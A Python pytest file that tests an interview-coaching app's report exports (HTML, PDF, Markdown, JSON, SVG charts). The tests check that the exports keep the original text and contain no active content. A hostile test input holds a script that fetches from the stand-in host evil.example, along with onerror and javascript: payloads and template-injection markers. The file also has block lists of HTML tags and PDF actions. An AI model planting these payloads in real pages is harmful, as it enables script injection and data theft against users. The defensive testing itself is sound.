"""A report kept as a file opens anywhere, holds what was said, and does nothing by itself."""

from __future__ import annotations

import io
import json
import re
from collections.abc import Sequence
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pypdf
import pytest

from interviewer.adapters.report_charts import Label, Line, as_svg, bars, radar
from interviewer.adapters.report_files import EXPORTS
from interviewer.adapters.report_html import as_html
from interviewer.adapters.report_pdf import as_pdf
from interviewer.adapters.reports import as_markdown
from interviewer.domain.interview import Interview, Move
from interviewer.domain.profile import Standing
from interviewer.domain.signal import DIMENSIONS
from interviewer.flows.ports import StoredInterview
from interviewer.flows.reporting import Beside
from tests.builders import NOW, a_grade, an_interview

CAUSE = "The provider retries after a timeout."
HOSTILE = (
    '</p></main><script>fetch("https://evil.example/x")</script><img src=x onerror="alert(1)"> '
    '<a href="javascript:alert(2)">x</a> {{ 7*7 }} {% raw %} &lt;b&gt; <style>*{display:none}</style> ]]> -->'
)
GREEK, CYRILLIC, CJK, EMOJI = "Ξεκινώ από την αιτία.", "Сначала ищу причину.", "まず原因を探します。", "Ship it 🚀🧑‍💻."
ODD = f"{GREEK} {CYRILLIC} {CJK} {EMOJI} \u202eabc\u0000\ud800 مرحبا \t end."
KINDS = [kind.suffix for kind in EXPORTS]


def stored(interview: Interview) -> StoredInterview:
    return StoredInterview("id", "me", interview, "coach", "hash", NOW, NOW, self_rating=3)


def made(suffix: str, *said: str | Move, **changes: Any) -> bytes:
    interview = an_interview(*(said or (CAUSE, "What could make it arrive two times?", "No idea.")))
    assessment = a_grade(interview, {"cause": ("covered", 1)}, **changes)
    beside = Beside(grades=(a_grade(interview, {}), assessment), before=a_grade(interview, {}))
    kind = next(kind for kind in EXPORTS if kind.suffix == suffix)
    return kind.make(stored(interview), assessment, beside)


def pdf_text(data: bytes) -> str:
    return " ".join("\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages).split())


class Tags(HTMLParser):
    """Every element with its attributes, and all text that is shown."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.shown = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.shown += data


# --- all kinds


@pytest.mark.parametrize("suffix", ["html", "md", "json", "pdf"])
def test_every_kind_of_file_holds_the_quotes_and_what_was_missing(suffix: str) -> None:
    data = made(suffix)
    text = pdf_text(data) if suffix == "pdf" else data.decode()

    assert CAUSE in text
    assert "Record the event id under a unique constraint" in text


@pytest.mark.parametrize("suffix", KINDS)
def test_no_writing_system_and_no_broken_character_stops_a_file(suffix: str) -> None:
    assert len(made(suffix, ODD)) > 1000


@pytest.mark.parametrize("suffix", KINDS)
def test_an_interview_without_a_single_word_can_be_kept(suffix: str) -> None:
    interview = an_interview()
    assessment = a_grade(interview, {})
    kind = next(kind for kind in EXPORTS if kind.suffix == suffix)

    assert kind.make(stored(interview), assessment, Beside(grades=(assessment,)))


# --- HTML


def test_the_page_has_no_active_part_and_asks_nothing_of_anybody() -> None:
    page = Tags(made("html", HOSTILE).decode())

    names = {tag for tag, _ in page.tags}
    assert not names & {"script", "img", "iframe", "object", "embed", "link", "form", "input", "base", "video", "audio"}
    for tag, attributes in page.tags:
        assert not any(name.startswith("on") or name == "src" for name in attributes), tag
        target = attributes.get("href") or "#"
        assert target.startswith(("#", "https://")), target
    policy = next(a["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv"))
    assert policy is not None
    assert policy.startswith("default-src 'none'")


def test_what_was_said_is_shown_to_the_letter_whatever_it_looks_like() -> None:
    page = Tags(made("html", HOSTILE).decode())

    assert '<script>fetch("https://evil.example/x")</script>' in page.shown
    assert "{{ 7*7 }} {% raw %} &lt;b&gt;" in page.shown
    assert sum(tag == "style" for tag, _ in page.tags) == 1


def test_the_style_sheet_fetches_nothing() -> None:
    sheet = re.search(r"<style>(.*?)</style>", made("html").decode(), re.DOTALL)

    assert sheet is not None
    assert not re.search(r"url\(|@import|expression", sheet.group(1))


def test_every_link_within_the_page_leads_to_a_place_in_it() -> None:
    page = Tags(made("html").decode())
    places = {attributes["id"] for _, attributes in page.tags if "id" in attributes}

    targets = {a["href"][1:] for _, a in page.tags if (a.get("href") or "").startswith("#") and a["href"]}

    assert {"answer-1", "answer-2", "point-1"} <= targets
    assert targets <= places


def test_the_page_marks_the_evidence_and_says_what_a_follow_up_was_after() -> None:
    page = made("html").decode()

    assert f'<mark class="covered">{CAUSE}</mark>' in page
    assert "Clarifying question, to have you make it concrete." in page


def test_characters_that_turn_a_text_round_are_left_out() -> None:
    assert "\u202e" not in made("html", ODD).decode()
    assert GREEK in made("html", ODD).decode()
    assert CJK in made("html", ODD).decode()


def test_an_address_that_is_no_web_address_is_no_link() -> None:
    interview = an_interview(CAUSE)
    assessment = a_grade(interview, {})
    gap = assessment.gaps[0].model_copy(update={"sources": ("javascript:alert(1)", "https://example.com/a")})

    page = as_html(stored(interview), assessment.model_copy(update={"gaps": (gap,)}), Beside()).decode()

    assert "javascript:" not in page
    assert 'href="https://example.com/a"' in page


# --- charts


STANDINGS = [Standing(name, 2.0, 2.0, 3.5, "low", 1.0) for name in ("diagnosis", "solution", "depth", "validation")]


def test_a_chart_is_valid_and_says_in_words_what_it_shows() -> None:
    for chart in (radar(STANDINGS), bars(STANDINGS)):
        assert chart is not None
        drawn = ElementTree.fromstring(as_svg(chart))
        assert drawn.get("role") == "img"
        assert "Diagnosis 2, low confidence, up to 3.5" in (drawn.get("aria-label") or "")
        assert {element.tag for element in drawn} <= {"title", "polygon", "polyline", "text"}


def test_a_longer_level_has_a_longer_bar() -> None:
    def widths(*levels: float) -> list[float]:
        chart = bars([Standing("depth", level, level, level, None) for level in levels])
        filled = [shape for shape in chart.shapes if getattr(shape, "fill", 0)]
        return [max(x for x, _ in shape.points) for shape in filled]  # type: ignore[union-attr]

    one, four = widths(1.0, 4.0)
    assert four > 3 * one


def spots(shape: Line | Label) -> Sequence[tuple[float, float]]:
    """The corners of a line, or the two ends of a label in a wide font."""
    if isinstance(shape, Line):
        return shape.points
    x, y = shape.at
    width = 0.62 * shape.size * len(shape.text)
    begin = x - {"start": 0.0, "middle": width / 2, "end": width}[shape.align]
    return (begin, y), (begin + width, y)


def test_nothing_of_a_chart_lies_outside_it() -> None:
    six = [Standing(name, 4.0, 4.0, 4.0, "medium", 4.0) for name in DIMENSIONS]
    for chart in (radar(STANDINGS), bars(STANDINGS), radar(six), bars(six)):
        assert chart is not None
        for shape in chart.shapes:
            for x, y in spots(shape):
                assert 0 <= x <= chart.width, shape
                assert 0 <= y <= chart.height, shape


# --- PDF


def test_the_pdf_opens_and_has_no_active_part() -> None:
    data = made("pdf", HOSTILE)
    reader = pypdf.PdfReader(io.BytesIO(data))

    assert data.startswith(b"%PDF-")
    assert not reader.is_encrypted
    for name in (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/URI", b"/AcroForm"):
        assert name not in data
    opened = reader.trailer["/Root"].get_object()["/OpenAction"]  # type: ignore[index]
    assert isinstance(opened, pypdf.generic.ArrayObject)  # a place to begin at, and no action
    assert "fetch(" in pdf_text(data)


def test_the_pdf_carries_its_fonts_and_draws_the_charts() -> None:
    reader = pypdf.PdfReader(io.BytesIO(made("pdf")))
    page = reader.pages[0]

    fonts = page["/Resources"]["/Font"].get_object()  # type: ignore[index]
    assert all("DejaVu" in str(font.get_object()["/BaseFont"]) for font in fonts.values())
    assert len(re.findall(rb"\bl\b", page.get_contents().get_data())) > 20  # type: ignore[union-attr]
    assert "high confidence" in page.extract_text()


def test_the_pdf_writes_latin_greek_and_cyrillic_and_a_square_for_what_its_font_lacks() -> None:
    text = pdf_text(made("pdf", ODD))

    assert GREEK in text
    assert CYRILLIC in text
    assert "□" in text


def test_the_same_report_gives_the_same_pdf() -> None:
    interview = an_interview(CAUSE)
    assessment = a_grade(interview, {})

    assert as_pdf(stored(interview), assessment, Beside()) == as_pdf(stored(interview), assessment, Beside())


# --- Markdown and JSON


def test_the_markdown_has_the_moments_the_map_and_the_versions() -> None:
    text = made("md").decode()

    assert "▲ Won in answer 1: Said point 1 unasked: 30% of the weight." in text
    assert "| 1 | ✓ Covered | 30 | ✓ | ○ |" in text
    assert "2. coach, 2026-11-23 09:10 UTC, 30, no: Score 0 → 30" in text
    assert "- Diagnosis 4, high confidence, 1 last time" in text


def test_one_grade_alone_is_no_history() -> None:
    interview = an_interview(CAUSE)
    assessment = a_grade(interview, {})

    assert "All grades" not in as_markdown(stored(interview), assessment, Beside(grades=(assessment,)))


def test_the_json_can_be_read_again() -> None:
    assert json.loads(made("json"))["interview"]["turns"][1]["text"] == CAUSE
